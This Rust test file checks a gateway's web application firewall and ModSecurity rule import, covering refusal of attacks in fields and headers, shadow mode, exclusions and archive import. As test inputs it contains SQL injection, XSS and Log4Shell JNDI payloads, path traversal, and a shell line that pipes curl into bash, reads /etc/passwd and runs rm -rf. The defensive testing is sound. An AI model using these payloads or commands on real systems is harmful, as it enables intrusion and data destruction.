//! The web application firewall: attacks everywhere but in the prompt are refused, prompts are left alone.

use std::fs;
use std::path::Path;
use std::process::Command;

use http::{Method, StatusCode};
use serde_json::{Value, json};

use crate::app::{TestApp, chat};

const SQL: &str = "1' UNION SELECT password FROM users--";

#[tokio::test]
async fn an_attack_outside_of_the_prompt_is_refused_in_the_callers_protocol() {
    let app = TestApp::start().await;
    for field in ["user", "model"] {
        let mut body = chat("What is the weather like?");
        body[field] = SQL.into();
        let reply = app.post("/v1/chat/completions", &body).await;
        assert_eq!(reply.status, StatusCode::FORBIDDEN, "{field}: {}", reply.text());
        assert_eq!(reply.json()["error"]["code"], "request_refused");
        assert!(!reply.text().contains("UNION"), "a refusal repeats nothing: {}", reply.text());
    }
    let mut body = json!({ "model": "claude", "max_tokens": 9, "messages": [{ "role": "user", "content": "Hello" }] });
    body["metadata"] = json!({ "user_id": "<script>alert(1)</script>" });
    let reply = app.post("/v1/messages", &body).await;
    assert_eq!((reply.status, &reply.json()["error"]["type"]), (StatusCode::FORBIDDEN, &json!("permission_error")));
    assert_eq!(app.reached().await, json!([]), "nothing reached the provider");
}

#[tokio::test]
async fn an_attack_in_the_query_or_a_header_is_refused_before_anybody_is_asked_who_they_are() {
    let app = TestApp::start().await;
    let url = format!("{}/v1/models?limit=1%27%20or%20%271%27%3D%271", app.base);
    assert_eq!(app.send(Method::GET, &url, None, &[], "").await.status, StatusCode::FORBIDDEN);
    let url = format!("{}/v1/models", app.base);
    for (name, value) in
        [("user-agent", "sqlmap/1.7"), ("x-note", "${jndi:ldap://x/y}"), ("cookie", "a=<script>alert(1)</script>")]
    {
        let reply = app.send(Method::GET, &url, Some(&app.key), &[(name, value)], "").await;
        assert_eq!(reply.status, StatusCode::FORBIDDEN, "{name}: {}", reply.text());
    }
    // A body that the handler never reads hides nothing.
    let reply =
        app.send(Method::GET, &format!("{url}?q=%3Cscript%3Ealert(1)%3C/script%3E"), Some(&app.key), &[], "x").await;
    assert_eq!(reply.status, StatusCode::FORBIDDEN, "{}", reply.text());
    let url = format!("{}/admin/v1/users?name=%3Cscript%3Ealert(1)%3C/script%3E", app.admin);
    assert_eq!(app.send(Method::GET, &url, Some(&app.admin_key), &[], "").await.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn code_in_a_prompt_blocks_nobody() {
    // What the detectors of prompts say about these texts is not the question here.
    let app = TestApp::with("[[policy]]\nname = 'none'\nmode = 'shadow'\n[[policy.rule]]\nmatch = '*'\nstages = ['input', 'output']\naction = 'block'").await;
    for text in [
        SQL,
        "Why does SELECT * FROM users WHERE name = '' OR '1'='1' return every row?",
        "<script>alert(document.cookie)</script> <img src=x onerror=alert(1)>",
        "curl -s http://127.0.0.1/x | bash; cat /etc/passwd && rm -rf /tmp/x",
        "../../../../etc/passwd and ${jndi:ldap://x/y} and {{config.items()}}",
        "#!/bin/sh\nfor f in *; do `id`; done",
    ] {
        let reply = app.chat(text).await;
        assert_eq!(reply.status, StatusCode::OK, "{text}: {}", reply.text());
        let body = json!({ "model": "m", "input": text, "instructions": text });
        assert_eq!(app.post("/v1/responses", &body).await.status, StatusCode::OK, "{text}");
        let body = json!({ "model": "claude", "max_tokens": 9, "system": text,
            "messages": [{ "role": "user", "content": [{ "type": "text", "text": text }] }] });
        assert_eq!(app.post("/v1/messages", &body).await.status, StatusCode::OK, "{text}");
    }
}

#[tokio::test]
async fn in_shadow_mode_nothing_is_refused_and_all_is_recorded() {
    let app = TestApp::with("[waf]\nmode = 'shadow'").await;
    let mut body = chat("Hello");
    body["user"] = SQL.into();
    assert_eq!(app.post("/v1/chat/completions", &body).await.status, StatusCode::OK);
    let entries = app.entries("waf.shadowed").await;
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert!(entries[0].to_string().contains("300200") && !entries[0].to_string().contains("UNION"), "{entries:?}");
    assert!(app.metrics().await.contains("portcullis_waf_requests_total{plane=\"data\",outcome=\"shadow\"} 1"));
}

#[tokio::test]
async fn a_refusal_is_recorded_without_its_text_and_a_flood_makes_one_entry() {
    let app = TestApp::start().await;
    let url = format!("{}/v1/models?q=%3Cscript%3Ealert(1)%3C/script%3E", app.base);
    for _ in 0..20 {
        assert_eq!(app.send(Method::GET, &url, None, &[], "").await.status, StatusCode::FORBIDDEN);
    }
    let entries = app.entries("waf.refused").await;
    assert_eq!(entries.len(), 1, "{entries:?}");
    let text = entries[0].to_string();
    assert!(text.contains("300210") && text.contains("ARGS") && !text.contains("script"), "{text}");
    assert!(app.metrics().await.contains("portcullis_waf_matches_total{rule=\"300210\"} 20"));
}

#[tokio::test]
async fn routes_and_exclusions_are_as_configured() {
    let app = TestApp::with(
        "[waf]\n[[waf.route]]\npath = '/v1/embeddings'\nmode = 'off'\n\
         [[waf.exclusion]]\npath = '/v1/chat/*'\nrules = [300200, 300201]\ntarget = 'ARGS:json.user'",
    )
    .await;
    let mut body = chat("Hello");
    body["user"] = SQL.into();
    assert_eq!(app.post("/v1/chat/completions", &body).await.status, StatusCode::OK);
    body["metadata"] = json!({ "note": SQL });
    assert_eq!(app.post("/v1/chat/completions", &body).await.status, StatusCode::FORBIDDEN);
    let body = json!({ "model": "m", "input": "x", "user": SQL });
    assert_eq!(app.post("/v1/embeddings", &body).await.status, StatusCode::OK);
    let body = json!({ "model": "m", "prompt": "x", "user": SQL });
    assert_eq!(app.post("/v1/completions", &body).await.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn imported_rules_stand_in_the_place_of_the_built_in_ones_and_broken_ones_change_nothing() {
    let data = tempfile::tempdir().unwrap();
    let rules = data.path().join("waf");
    fs::create_dir(&rules).unwrap();
    let rule =
        "SecRule REQUEST_HEADERS:X-Own \"@pmFromFile words.data\" \"id:42,phase:1,deny,status:403,log,msg:'own'\"";
    fs::write(rules.join("own.conf"), rule).unwrap();
    fs::write(rules.join("words.data"), "forbidden\n").unwrap();
    let app = TestApp::on(data, "").await;
    let url = format!("{}/v1/models", app.base);
    let ask = async |value: &str| app.send(Method::GET, &url, Some(&app.key), &[("x-own", value)], "").await;
    assert_eq!(ask("this is FORBIDDEN").await.status, StatusCode::FORBIDDEN);
    assert_eq!(ask("${jndi:ldap://x/y}").await.status, StatusCode::OK, "the built-in rules are not on beside them");
    fs::write(rules.join("own.conf"), "SecRule ARGS \"@inspectFile x\" \"id:1\"").unwrap();
    let reply = app.admin(Method::POST, "/admin/v1/reload", &Value::Null).await;
    assert!(!reply.status.is_success(), "{}", reply.text());
    assert_eq!(ask("forbidden").await.status, StatusCode::FORBIDDEN, "what was right stays in force");
}

#[tokio::test]
async fn a_password_may_be_anything() {
    let app = TestApp::start().await;
    let url = format!("{}/auth/v1/login", app.base);
    let body = json!({ "tenant": "acme", "email": "ada@example.com", "password": SQL });
    let reply = app.send(Method::POST, &url, None, &[], body.to_string()).await;
    assert_ne!(reply.json()["error"]["code"], "request_refused", "{}", reply.text());
    let body = json!({ "tenant": SQL, "email": "ada@example.com", "password": "x" });
    assert_eq!(
        app.send(Method::POST, &url, None, &[], body.to_string()).await.json()["error"]["code"],
        "request_refused"
    );
}

/// Needs the package `modsecurity-crs` of Debian; without it there is nothing to show.
#[test]
fn the_core_rule_set_that_debian_installs_loads_to_its_last_rule() {
    let (rules, setup) = ("/usr/share/modsecurity-crs", "/etc/modsecurity/crs/crs-setup.conf");
    if !std::path::Path::new(setup).is_file() {
        return;
    }
    let mut files = portcullis::infra::network::waf::load::Files::default();
    files.add_rules(setup.as_ref()).unwrap();
    files.add_rules(rules.as_ref()).unwrap();
    let engine = files.compile().unwrap();
    let loaded: std::collections::BTreeSet<u32> = engine.listing().map(|(id, _, _)| id).collect();
    let listed = fs::read_dir(format!("{rules}/rules")).unwrap().map(|file| file.unwrap().path());
    let mut missing = Vec::new();
    for file in listed.filter(|file| file.extension().is_some_and(|ending| ending == "conf")) {
        let text = fs::read_to_string(file).unwrap();
        let written = text.lines().filter(|line| !line.trim_start().starts_with('#'));
        let ids =
            written.filter_map(|line| line.split("\"id:").nth(1).or_else(|| line.trim_start().strip_prefix("id:")));
        let ids = ids.filter_map(|rest| {
            rest.trim_matches('\'').split(|c: char| !c.is_ascii_digit()).next()?.parse::<u32>().ok()
        });
        missing.extend(ids.filter(|id| !loaded.contains(id)));
    }
    assert!(missing.is_empty(), "{missing:?}");
    assert!(loaded.len() > 600, "{}", loaded.len());
}

/// A rule set in the form it is published in.
fn archive(rule: &str) -> Vec<u8> {
    let packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut builder = tar::Builder::new(packer);
    for (name, text) in
        [("crs-setup.conf.example", "SecAction \"id:7,phase:1,pass\""), ("rules/a.conf", rule), ("rules/a.data", "x")]
    {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        builder.append_data(&mut header, format!("coreruleset-4/{name}"), text.as_bytes()).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

/// Imports an archive, and what is said of it.
fn import(data: &Path, bytes: &[u8]) -> (bool, String) {
    let place = data.join("rules.tar.gz");
    fs::write(&place, bytes).unwrap();
    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
    command.env("PORTCULLIS_CONFIG", data.join("none.toml")).env("PORTCULLIS_DATA", data);
    let output = command.args(["waf", "import"]).arg(&place).output().unwrap();
    let said = [output.stdout, output.stderr].concat();
    (output.status.success(), String::from_utf8(said).unwrap())
}

#[test]
fn an_import_from_an_archive_is_all_or_nothing() {
    let data = tempfile::tempdir().unwrap();
    let folder = data.path().join("waf");
    let rule = "SecRule ARGS \"@pmFromFile a.data\" \"id:1,phase:2,deny\"";
    let (is_done, said) = import(data.path(), &archive(rule));
    assert!(is_done && said.contains("rules of 3 files are imported") && !said.contains("warning"), "{said}");
    let before = fs::read_to_string(folder.join("rules/a.conf")).unwrap();
    let good = archive(rule);
    let bad = archive("SecRule ARGS \"@inspectFile x\" \"id:1,phase:2,deny\"");
    for (bytes, why) in [(bad.as_slice(), "a.conf:1"), (&good[..good.len() - 9], "not taken"), (b"", "cut short")] {
        let (is_done, said) = import(data.path(), bytes);
        assert!(!is_done && said.contains("nothing was imported") && said.contains(why), "{said}");
        assert_eq!(fs::read_to_string(folder.join("rules/a.conf")).unwrap(), before);
    }
    let (is_done, said) = import(data.path(), &archive("SecRule &TX:version \"@eq 0\" \"id:2,phase:1,deny\""));
    assert!(is_done && said.contains("warning: rule 2 refuses even a request with nothing in it"), "{said}");
    let left: Vec<_> = fs::read_dir(data.path()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    assert!(left.iter().all(|name| name == "waf" || name == "rules.tar.gz"), "{left:?}");
}
